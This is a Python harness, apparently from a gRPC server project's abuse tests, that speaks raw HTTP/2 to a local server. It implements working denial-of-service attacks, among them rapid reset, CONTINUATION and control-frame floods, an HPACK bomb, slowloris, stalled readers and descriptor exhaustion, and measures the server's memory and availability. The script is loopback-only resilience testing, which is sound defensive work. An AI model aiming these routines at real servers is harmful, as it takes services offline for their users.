#!/usr/bin/env python3
"""A raw HTTP/2 attacker for Sluice's abuse tests, speaking the wire protocol by hand (frames
from bytes, HPACK from the `hpack` package) so it can send what no gRPC client would.

    attacker.py ATTACK --port N --server-pid PID [--connections C]

Each attack runs against a gRPC interop server on 127.0.0.1 while an ordinary unary call
(EmptyCall, on its own connection) is made every 100 ms. It prints one line
`RESULT {json}` with what it saw: the server's peak resident-memory growth (bytes, from
/proc), whether every ordinary call succeeded, the frames that ended the attack's streams and
connections, and attack-specific counts. Everything stays on loopback and is bounded in time.
"""
import argparse
import json
import os
import socket
import struct
import sys
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
SERVICE = "/grpc.testing.TestService/"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(**values):
    ids = {"header_table_size": 1, "max_concurrent_streams": 3, "initial_window_size": 4, "max_frame_size": 5}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in values.items()))


def grpc_message(payload):
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def varint(n):
    out = bytearray()
    while n >= 0x80:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def field_bytes(number, value):
    return varint(number << 3 | 2) + varint(len(value)) + value


def response_parameters(size, interval_us=0):
    body = varint(1 << 3) + varint(size)
    if interval_us:
        body += varint(2 << 3) + varint(interval_us)
    return field_bytes(2, body)


class Connection:
    """One raw HTTP/2 connection: writes frames, reads and records what the server sends."""

    def __init__(self, port, window=None, read=True):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20
        self.lock = threading.Lock()
        # Frames from several threads must not interleave on the socket.
        self.send_lock = threading.Lock()
        self.next_stream = 1
        self.connection_window = 65535
        self.stream_windows = {}
        self.initial_stream_window = 65535
        self.resets = {}
        self.goaway = None
        self.closed = False
        self.headers = {}
        self.ended = set()
        self.data_received = 0
        self.window_event = threading.Condition(self.lock)
        values = {} if window is None else {"initial_window_size": window}
        self.send(PREFACE + settings(**values))
        if read:
            threading.Thread(target=self._read, daemon=True).start()

    def send(self, data):
        try:
            with self.send_lock:
                self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def _read_exact(self, n):
        buf = b""
        while len(buf) < n:
            chunk = self.sock.recv(n - len(buf))
            if not chunk:
                raise EOFError
            buf += chunk
        return buf

    def _read(self):
        self.sock.settimeout(None)
        try:
            while True:
                header = self._read_exact(9)
                length = int.from_bytes(header[:3], "big")
                kind, flags = header[3], header[4]
                stream = int.from_bytes(header[5:9], "big") & 0x7FFFFFFF
                payload = self._read_exact(length)
                with self.lock:
                    if kind == SETTINGS and not flags & ACK:
                        for i in range(0, len(payload), 6):
                            ident, value = struct.unpack(">HI", payload[i:i + 6])
                            if ident == 4:
                                delta = value - self.initial_stream_window
                                self.initial_stream_window = value
                                for s in self.stream_windows:
                                    self.stream_windows[s] += delta
                        self.send(frame(SETTINGS, ACK, 0))
                    elif kind == PING and not flags & ACK:
                        self.send(frame(PING, ACK, 0, payload))
                    elif kind == WINDOW_UPDATE:
                        increment = struct.unpack(">I", payload)[0] & 0x7FFFFFFF
                        if stream == 0:
                            self.connection_window += increment
                        elif stream in self.stream_windows:
                            self.stream_windows[stream] += increment
                        self.window_event.notify_all()
                    elif kind == RST_STREAM:
                        self.resets[stream] = struct.unpack(">I", payload)[0]
                        self.ended.add(stream)
                        self.window_event.notify_all()
                    elif kind == GOAWAY:
                        last, code = struct.unpack(">II", payload[:8])
                        self.goaway = (last & 0x7FFFFFFF, code, payload[8:].decode(errors="replace"))
                        self.window_event.notify_all()
                    elif kind in (HEADERS, CONTINUATION):
                        block = payload
                        if kind == HEADERS and flags & 0x8:
                            block = block[1:len(block) - block[0]]
                        if kind == HEADERS and flags & 0x20:
                            block = block[5:]
                        try:
                            decoded = dict(self.decoder.decode(block))
                        except Exception:
                            decoded = {}
                        self.headers.setdefault(stream, {}).update(
                            {k if isinstance(k, str) else k.decode(): v if isinstance(v, str) else v.decode()
                             for k, v in decoded.items()})
                        if flags & END_STREAM:
                            self.ended.add(stream)
                            self.window_event.notify_all()
                    elif kind == DATA:
                        self.data_received += length
                        if flags & END_STREAM:
                            self.ended.add(stream)
                            self.window_event.notify_all()
        except (EOFError, OSError):
            with self.lock:
                self.closed = True
                self.window_event.notify_all()

    def open_stream(self, method, end_stream=False, extra=()):
        with self.lock:
            stream = self.next_stream
            self.next_stream += 2
            self.stream_windows[stream] = self.initial_stream_window
            block = self.encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", SERVICE + method),
                                         (":authority", "localhost"), ("content-type", "application/grpc"),
                                         ("te", "trailers"), *extra])
        self.send(frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), stream, block))
        return stream

    def send_data(self, stream, data, end_stream=False, respect_windows=True, deadline=None):
        """Sends `data` on `stream` as the windows allow (waiting for updates until
        `deadline`); returns the bytes sent."""
        sent = 0
        while sent < len(data):
            with self.lock:
                if respect_windows:
                    while (self.connection_window <= 0 or self.stream_windows.get(stream, 0) <= 0) \
                            and not self.closed and stream not in self.ended:
                        remaining = None if deadline is None else deadline - time.monotonic()
                        if remaining is not None and remaining <= 0:
                            return sent
                        self.window_event.wait(timeout=remaining)
                    if self.closed or stream in self.ended:
                        return sent
                    room = min(self.connection_window, self.stream_windows[stream], 16384, len(data) - sent)
                    self.connection_window -= room
                    self.stream_windows[stream] -= room
                else:
                    room = min(16384, len(data) - sent)
            last = end_stream and sent + room == len(data)
            if not self.send(frame(DATA, END_STREAM if last else 0, stream, data[sent:sent + room])):
                return sent
            sent += room
        return sent

    def wait(self, condition, timeout):
        end = time.monotonic() + timeout
        with self.lock:
            while not condition() and time.monotonic() < end:
                self.window_event.wait(timeout=max(0.01, end - time.monotonic()))
            return condition()

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


class Ordinary(threading.Thread):
    """An ordinary client: an EmptyCall every 100 ms on its own connection, each of which must
    succeed within 5 s."""

    def __init__(self, port):
        super().__init__(daemon=True)
        self.port = port
        self.ok = 0
        self.failed = 0
        self.worst = 0.0
        self.stop = threading.Event()
        self.errors = []

    def run(self):
        connection = None
        while not self.stop.is_set():
            start = time.monotonic()
            try:
                if connection is None or connection.closed:
                    connection = Connection(self.port)
                stream = connection.open_stream("EmptyCall")
                connection.send_data(stream, grpc_message(b""), end_stream=True)
                if connection.wait(lambda: stream in connection.ended, 5) and \
                        connection.headers.get(stream, {}).get("grpc-status") == "0":
                    self.ok += 1
                else:
                    self.failed += 1
                    self.errors.append(f"stream {stream}: {connection.headers.get(stream)} reset {connection.resets.get(stream)}")
                    connection.close()
                    connection = None
            except OSError as error:
                self.failed += 1
                self.errors.append(repr(error))
                connection = None
            self.worst = max(self.worst, time.monotonic() - start)
            self.stop.wait(0.1)


def resident(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    return 0


class Sampler(threading.Thread):
    """The server's peak resident memory while the attack runs."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid = pid
        self.baseline = resident(pid)
        self.peak = self.baseline
        self.stop = threading.Event()

    def run(self):
        while not self.stop.is_set():
            try:
                self.peak = max(self.peak, resident(self.pid))
            except OSError:
                return
            self.stop.wait(0.05)


# --- the attacks: each returns a dict of what it saw -------------------------------------


def tiny_messages(args):
    """Streams whose handler stops reading, each sent its window of 9-byte messages."""
    connections = [Connection(args.port) for _ in range(args.connections)]
    sent = 0
    deadline = time.monotonic() + 20
    message = grpc_message(b"\x1a\x02\x00\x00")  # payload field, 9 bytes framed
    blob = message * (64 * 1024 // len(message))
    streams = []
    for connection in connections:
        for _ in range(100):
            stream = connection.open_stream("FullDuplexCall")
            # The handler answers after 30 s, and reads nothing meanwhile.
            connection.send_data(stream, grpc_message(response_parameters(1, 30_000_000)))
            streams.append((connection, stream))
    threads = []
    counts = []

    def flood(connection, stream):
        # Until the deadline: once every window is used up the server sends no more updates,
        # and each thread waits out the rest (a loaded machine may be slow to return them).
        total = 0
        while time.monotonic() < deadline:
            n = connection.send_data(stream, blob, deadline=deadline)
            total += n
            if n < len(blob):
                break
        counts.append(total)

    for connection, stream in streams:
        thread = threading.Thread(target=flood, args=(connection, stream), daemon=True)
        thread.start()
        threads.append(thread)
    for thread in threads:
        thread.join()
    sent = sum(counts)
    time.sleep(1)
    result = {"bytes_sent": sent, "goaway": [c.goaway for c in connections if c.goaway]}
    for connection in connections:
        connection.close()
    return result


def stalled_reader(args):
    """Streams asking for 40 x 256 KiB responses, never opening their receive window."""
    connections = [Connection(args.port, window=0) for _ in range(args.connections)]
    request = b"".join(response_parameters(256 * 1024) for _ in range(40))
    for connection in connections:
        for _ in range(100):
            stream = connection.open_stream("StreamingOutputCall")
            connection.send_data(stream, grpc_message(request), end_stream=True)
    time.sleep(6)
    result = {"data_received": sum(c.data_received for c in connections)}
    for connection in connections:
        connection.close()
    return result


def descriptors(args):
    """Holds far more idle (but valid) connections than the server has descriptors."""
    held = []
    refused = 0
    for _ in range(args.connections):
        try:
            connection = Connection(args.port, read=False)
            held.append(connection)
        except OSError:
            refused += 1
    time.sleep(3)
    closed_by_server = 0
    for connection in held:
        connection.sock.setblocking(False)
        try:
            if connection.sock.recv(65536) == b"":
                closed_by_server += 1
        except BlockingIOError:
            pass
        except OSError:
            closed_by_server += 1
    for connection in held:
        connection.close()
    return {"opened": len(held), "refused": refused, "closed_by_server": closed_by_server}


def stream_errors(args):
    """Stream errors on some streams of a connection whose other calls must carry on."""
    connection = Connection(args.port)
    sleeper = connection.open_stream("FullDuplexCall")
    connection.send_data(sleeper, grpc_message(response_parameters(1, 2_000_000)), end_stream=True)
    # Past the stream's window (1 MiB) while the connection's has room: FLOW_CONTROL_ERROR.
    connection.wait(lambda: connection.connection_window > 2 << 20, 5)
    overflow = connection.open_stream("StreamingInputCall")
    connection.send_data(overflow, b"\x00" * ((1 << 20) + 32768), respect_windows=False)
    # An upper-case header name: PROTOCOL_ERROR on that stream.
    bad = connection.open_stream("EmptyCall", end_stream=True, extra=[("X-Upper", "1")])
    connection.wait(lambda: overflow in connection.resets and bad in connection.resets, 5)
    unary = connection.open_stream("EmptyCall")
    connection.send_data(unary, grpc_message(b""), end_stream=True)
    connection.wait(lambda: unary in connection.ended and sleeper in connection.ended, 10)
    result = {
        "overflow_reset": connection.resets.get(overflow), "bad_header_reset": connection.resets.get(bad),
        "unary_status": connection.headers.get(unary, {}).get("grpc-status"),
        "sleeper_status": connection.headers.get(sleeper, {}).get("grpc-status"),
        "goaway": connection.goaway, "closed": connection.closed,
    }
    # Streams past MAX_CONCURRENT_STREAMS (100): the extra one is refused, the rest go on.
    streams = []
    for _ in range(100):
        stream = connection.open_stream("FullDuplexCall")
        connection.send_data(stream, grpc_message(response_parameters(1, 1_000_000)), end_stream=True)
        streams.append(stream)
    extra = connection.open_stream("EmptyCall", end_stream=True)
    connection.wait(lambda: extra in connection.resets or extra in connection.ended, 5)
    result["extra_stream_reset"] = connection.resets.get(extra)
    connection.wait(lambda: all(s in connection.ended for s in streams), 15)
    result["hundred_ok"] = sum(1 for s in streams if connection.headers.get(s, {}).get("grpc-status") == "0")
    result["goaway_after_limit"] = connection.goaway
    connection.close()
    return result


def rapid_reset(args):
    connection = Connection(args.port)
    for _ in range(20_000):
        stream = connection.open_stream("EmptyCall")
        if not connection.send(frame(RST_STREAM, 0, stream, struct.pack(">I", 8))):
            break
    connection.wait(lambda: connection.goaway is not None or connection.closed, 5)
    return {"goaway": connection.goaway, "closed": connection.closed}


def continuation_flood(args):
    connection = Connection(args.port)
    block = connection.encoder.encode([(":method", "POST"), (":path", SERVICE + "EmptyCall")])
    connection.send(frame(HEADERS, 0, 1, block))
    chunk = frame(CONTINUATION, 0, 1, b"\x40\x01a\x01b" * 100)
    for _ in range(100_000):
        if not connection.send(chunk):
            break
    connection.wait(lambda: connection.goaway is not None or connection.closed, 5)
    return {"goaway": connection.goaway, "closed": connection.closed}


def hpack_bomb(args):
    """One 4 KiB header added to the dynamic table, then referenced thousands of times."""
    connection = Connection(args.port)
    big = "x" * 4000
    first = b"\x40" + bytes(hpack.hpack.encode_integer(len("bomb"), 7)) + b"bomb" \
        + bytes(hpack.hpack.encode_integer(len(big), 7)) + big.encode()
    base = connection.encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", SERVICE + "EmptyCall"),
                                      (":authority", "localhost"), ("content-type", "application/grpc")])
    connection.send(frame(HEADERS, END_HEADERS, 1, base + first))
    # Index 62 is the newest dynamic entry: each byte below is another 4 KiB header.
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, base + b"\xbe" * 16000))
    connection.wait(lambda: connection.goaway is not None or connection.closed or 3 in connection.resets, 5)
    return {"goaway": connection.goaway, "closed": connection.closed, "reset": connection.resets.get(3)}


def control_flood(args, kind):
    connection = Connection(args.port, read=False)
    if kind == "ping":
        payload = frame(PING, 0, 0, b"\x00" * 8)
    elif kind == "settings":
        payload = settings(initial_window_size=65535)
    else:
        payload = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    sent = 0
    batch = payload * 1000
    start = time.monotonic()
    while sent < 200_000 and time.monotonic() - start < 10:
        if not connection.send(batch):
            break
        sent += 1000
    connection.sock.settimeout(5)
    closed = False
    try:
        while connection.sock.recv(65536):
            pass
        closed = True
    except OSError:
        closed = connection.closed
    connection.close()
    return {"frames_sent": sent, "closed_by_server": closed}


def slowloris(args):
    """Connections that trickle their preface a byte at a time."""
    sockets = [socket.create_connection(("127.0.0.1", args.port)) for _ in range(args.connections)]
    start = time.monotonic()
    closed_after = None
    for i, byte in enumerate(PREFACE):
        for sock in sockets:
            try:
                sock.sendall(bytes([byte]))
            except OSError:
                closed_after = closed_after or time.monotonic() - start
        time.sleep(0.25)
        if closed_after:
            break
    for sock in sockets:
        sock.settimeout(5)
        try:
            while sock.recv(65536):
                pass
            closed_after = closed_after or time.monotonic() - start
        except OSError:
            closed_after = closed_after or time.monotonic() - start
        sock.close()
    return {"closed_after": closed_after}


def huge_length(args):
    """A message announcing 4 GiB: refused from its prefix, nothing buffered."""
    connection = Connection(args.port)
    stream = connection.open_stream("UnaryCall")
    connection.send_data(stream, b"\x00\xff\xff\xff\xff" + b"\x00" * 60000)
    connection.wait(lambda: stream in connection.ended, 5)
    result = {"status": connection.headers.get(stream, {}).get("grpc-status"), "goaway": connection.goaway}
    connection.close()
    return result


def deep_nesting(args):
    """A request nested 100,000 groups deep in an unknown field."""
    connection = Connection(args.port)
    body = b"\x7b" * 100_000 + b"\x7c" * 100_000  # field 15 start-group ... end-group
    stream = connection.open_stream("UnaryCall")
    connection.send_data(stream, grpc_message(body), end_stream=True)
    connection.wait(lambda: stream in connection.ended, 5)
    result = {"status": connection.headers.get(stream, {}).get("grpc-status"),
              "message": connection.headers.get(stream, {}).get("grpc-message"), "goaway": connection.goaway}
    connection.close()
    return result


ATTACKS = {
    "tiny-messages": tiny_messages, "stalled-reader": stalled_reader, "descriptors": descriptors,
    "stream-errors": stream_errors, "rapid-reset": rapid_reset, "continuation-flood": continuation_flood,
    "hpack-bomb": hpack_bomb, "ping-flood": lambda a: control_flood(a, "ping"),
    "settings-flood": lambda a: control_flood(a, "settings"),
    "window-update-flood": lambda a: control_flood(a, "window"), "slowloris": slowloris,
    "huge-length": huge_length, "deep-nesting": deep_nesting,
}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--server-pid", type=int, required=True)
    parser.add_argument("--connections", type=int, default=1)
    args = parser.parse_args()
    sampler = Sampler(args.server_pid)
    sampler.start()
    ordinary = Ordinary(args.port)
    ordinary.start()
    time.sleep(0.3)
    started = time.monotonic()
    result = ATTACKS[args.attack](args)
    # Memory must come back once the attack's connections are gone: handlers that were asleep
    # take a moment to see their cancellation, longer on a loaded machine, so wait (up to 20 s)
    # for the server to fall back within 32 MiB of where it started.
    settle_start = time.monotonic()
    time.sleep(1)
    while resident(args.server_pid) - sampler.baseline > 32 << 20 and time.monotonic() - settle_start < 20:
        time.sleep(0.5)
    settle_seconds = round(time.monotonic() - settle_start, 2)
    ordinary.stop.set()
    ordinary.join(timeout=10)
    sampler.stop.set()
    sampler.join()
    result.update({
        "attack": args.attack, "seconds": round(time.monotonic() - started, 2),
        "baseline_rss": sampler.baseline, "peak_growth": sampler.peak - sampler.baseline,
        "final_growth": resident(args.server_pid) - sampler.baseline, "settle_seconds": settle_seconds,
        "ordinary_ok": ordinary.ok, "ordinary_failed": ordinary.failed,
        "ordinary_worst_seconds": round(ordinary.worst, 3), "ordinary_errors": ordinary.errors[:3],
    })
    print("RESULT " + json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
